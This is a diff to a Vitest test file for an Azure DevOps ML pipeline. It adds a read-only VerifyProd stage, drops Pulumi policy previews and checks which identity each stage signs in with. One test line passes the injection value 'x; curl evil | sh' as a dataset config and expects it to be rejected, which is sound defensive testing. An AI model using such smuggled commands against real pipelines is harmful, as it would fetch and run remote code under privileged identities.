@@ -1,7 +1,9 @@
+import { readdirSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { STAGE_IDENTITIES } from '../../infra/access-plan.ts';
 import { executedStages, executedSteps } from './execution.ts';
-import { expandPipeline, type Job, pipelinesDir, type Stage, stepsOf } from './expand.ts';
+import { expandPipeline, type Job, pipelinesDir, readYaml, repoRoot, type Stage, stepsOf } from './expand.ts';
 
 const file = path.join(pipelinesDir, 'ml.yml');
 const ml = expandPipeline(file);
@@ -20,24 +22,30 @@ const stepCommands = (pipeline = ml, variables: Record<string, string> = schedul
 const environmentOf = (job: Job) =>
   typeof job.environment === 'string' ? job.environment : (job.environment as { name?: string })?.name;
 
-// The gate's config is written from the step's own environment: a bash default, not a JavaScript template.
-const WRITE_POLICY_CONFIG =
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell expands ${config_env:-prod}, not JavaScript
-  'node infra/scripts/write-policy-config.ts --config configs/demo.yaml --env "${config_env:-prod}" --out "$(Agent.TempDirectory)/policy-config.prod.json"';
+const VERIFY =
+  'node .azure-pipelines/scripts/verify-prod.ts --config $(datasetConfig) --env $(environment) --run $(runId)';
 
 describe('ml.yml', () => {
-  it('runs Prepare, Train, EvaluateAndPromote, Score, each after the one before', () => {
-    expect(ml.stages.map((s) => s.stage)).toEqual(['Prepare', 'Train', 'EvaluateAndPromote', 'Score']);
+  it('runs Prepare, Train, EvaluateAndPromote, VerifyProd, Score, each after the one before', () => {
+    expect(ml.stages.map((s) => s.stage)).toEqual([
+      'Prepare',
+      'Train',
+      'EvaluateAndPromote',
+      'VerifyProd',
+      'Score',
+    ]);
     expect(Object.fromEntries(ml.stages.map((s) => [s.stage, s.dependsOn ?? null]))).toEqual({
       Prepare: null,
       Train: 'Prepare',
       EvaluateAndPromote: 'Train',
-      Score: 'EvaluateAndPromote',
+      VerifyProd: 'EvaluateAndPromote',
+      Score: 'VerifyProd',
     });
     expect(executedStages(ml, scheduled).map((s) => s.stage)).toEqual([
       'Prepare',
       'Train',
       'EvaluateAndPromote',
+      'VerifyProd',
       'Score',
     ]);
   });
@@ -52,10 +60,6 @@ describe('ml.yml', () => {
       },
       {
         stage: 'EvaluateAndPromote',
-        command: WRITE_POLICY_CONFIG,
-      },
-      {
-        stage: 'EvaluateAndPromote',
         command:
           'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(environment) --run $(runId)',
       },
@@ -65,28 +69,13 @@ describe('ml.yml', () => {
           'node .azure-pipelines/scripts/publish-decisions.ts --config $(datasetConfig) --env $(environment) ' +
           '--run $(runId) --out $(Build.ArtifactStagingDirectory)/decisions',
       },
+      { stage: 'VerifyProd', command: VERIFY },
       {
         stage: 'Score',
         command: 'node steps/score.ts --config $(datasetConfig) --env $(environment) --run $(runId)',
       },
     ]);
     expect(ml.variables.runId).toBe('ado-$(Build.BuildId)');
-  });
-
-  it('gives the promotion gate the thresholds the step reads: the same dataset config and environment', () => {
-    for (const params of [{}, { datasetConfig: 'configs/oj-sales.yaml', environment: 'prod' }] as const) {
-      const pipeline = expandPipeline(file, params);
-      const promote = executedSteps(pipeline, scheduled).filter((s) => s.stage === 'EvaluateAndPromote');
-      const lines = promote.flatMap((s) => s.commands);
-      const config = 'datasetConfig' in params ? params.datasetConfig : 'configs/demo.yaml';
-      const env = 'environment' in params ? params.environment : 'dev';
-      expect(lines).toContain(`config_env="${env}"`);
-      expect(lines.find((l) => l.startsWith('node infra/scripts/write-policy-config.ts'))).toContain(
-        `--config ${config}`,
-      );
-      const preview = lines.find((l) => l.startsWith('pulumi preview'))!;
-      expect(preview).toContain('--policy-pack-config "$(Agent.TempDirectory)/policy-config.prod.json"');
-    }
   });
 
   it('resumes the same training run when failed jobs are rerun', () => {
@@ -115,6 +104,17 @@ describe('ml.yml', () => {
       dryRun: 'False',
     });
     expect(() => expandPipeline(file, { environment: 'staging' })).toThrow(/'staging', not one of dev, prod/);
+    // Issue 18 item 11: the dataset config reaches shell commands under privileged identities, so it is a closed
+    // list (Azure DevOps refuses any other value at queue time), the configs/ files exactly.
+    expect(() => expandPipeline(file, { datasetConfig: 'x; curl evil | sh' })).toThrow(/not one of/);
+    const declared = (readYaml(file) as { parameters: { name: string; values?: string[] }[] }).parameters;
+    const configs = readdirSync(path.join(repoRoot, 'configs')).filter((f) => f.endsWith('.yaml'));
+    expect(declared.find((p) => p.name === 'datasetConfig')!.values).toEqual(
+      configs.map((f) => `configs/${f}`),
+    );
+    for (const p of declared as { name: string; type: string; values?: unknown[] }[]) {
+      if (p.type === 'string') expect(p.values, `${p.name} is free text`).toBeDefined();
+    }
     expect(() => expandPipeline(file, { shardCount: 'four' })).toThrow(/'shardCount' must be a number/);
   });
 
@@ -127,7 +127,6 @@ describe('ml.yml', () => {
     ]);
     const promote = stepCommands(dry).filter((c) => c.stage === 'EvaluateAndPromote');
     expect(promote.map((c) => c.command)).toEqual([
-      WRITE_POLICY_CONFIG,
       'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(environment) --run $(runId) --dry-run',
     ]);
     const tasks = executedSteps(dry, scheduled).map((s) => s.step.task);
@@ -146,17 +145,14 @@ describe('ml.yml', () => {
     }
   });
 
-  it('gates promotion on the policy pack: a preview of the prod stack runs first', () => {
-    const steps = executedSteps(ml, scheduled).filter((s) => s.stage === 'EvaluateAndPromote');
-    const preview = steps.findIndex((s) => s.commands.some((c) => c.startsWith('pulumi preview')));
-    const promote = steps.findIndex((s) =>
-      s.commands.some((c) => c.includes('steps/evaluate-and-promote.ts')),
-    );
-    expect(preview).toBeGreaterThanOrEqual(0);
-    expect(preview).toBeLessThan(promote);
-    const command = steps[preview]!.commands.find((c) => c.startsWith('pulumi preview'))!;
-    expect(command).toContain('--stack prod');
-    expect(command).toMatch(/--policy-pack "\$\(Build\.SourcesDirectory\)\/infra\/policy"/);
+  // Issue 18 items 4 and 9: the gate runs where prod versions are written (the SDK, not Pulumi): no stack
+  // preview in the promotion stage; a read-only identity re-verifies the run's prod versions before scoring.
+  it('gates scoring on a read-only re-verification of the run’s prod versions, and previews no stack', () => {
+    const all = executedSteps(ml, scheduled).flatMap((s) => s.commands);
+    expect(all.filter((c) => c.startsWith('pulumi '))).toEqual([]);
+    const verify = executedSteps(ml, scheduled).filter((s) => s.stage === 'VerifyProd');
+    expect(verify.flatMap((s) => s.commands)).toContain(VERIFY);
+    expect(stage('VerifyProd').condition).toBe("and(succeeded(), eq(variables.dryRun, 'false'))");
   });
 
   it('publishes the decisions as the `decisions` artifact and a summary on the run', () => {
@@ -169,7 +165,7 @@ describe('ml.yml', () => {
     expect(steps[publish]!.step.inputs).toEqual({ targetPath: out, artifact: 'decisions' });
   });
 
-  it('signs in with the least-privileged identity per stage; only EvaluateAndPromote uses the promotion one', () => {
+  it('signs in per stage as the identity infra/access-plan.ts names; only EvaluateAndPromote uses the promotion one', () => {
     const identities = (name: string) => [
       ...new Set(
         stage(name)
@@ -178,10 +174,14 @@ describe('ml.yml', () => {
           .map((s) => (s.inputs as { azureSubscription: string }).azureSubscription),
       ),
     ];
-    expect(identities('Prepare')).toEqual([ml.variables.serviceConnectionMlDev]);
+    expect(identities('Prepare')).toEqual([ml.variables.serviceConnectionDataprep]);
     expect(identities('Train')).toEqual([ml.variables.serviceConnectionMlDev]);
     expect(identities('EvaluateAndPromote')).toEqual([ml.variables.serviceConnectionPromotion]);
+    expect(identities('VerifyProd')).toEqual([ml.variables.serviceConnectionAudit]);
     expect(identities('Score')).toEqual([ml.variables.serviceConnectionMlProd]);
+    for (const s of STAGE_IDENTITIES.filter((x) => x.pipeline === 'ml')) {
+      expect(identities(s.stage), s.stage).toEqual([s.serviceConnection]);
+    }
   });
 
   it('runs daily on main and otherwise only when queued by hand', () => {
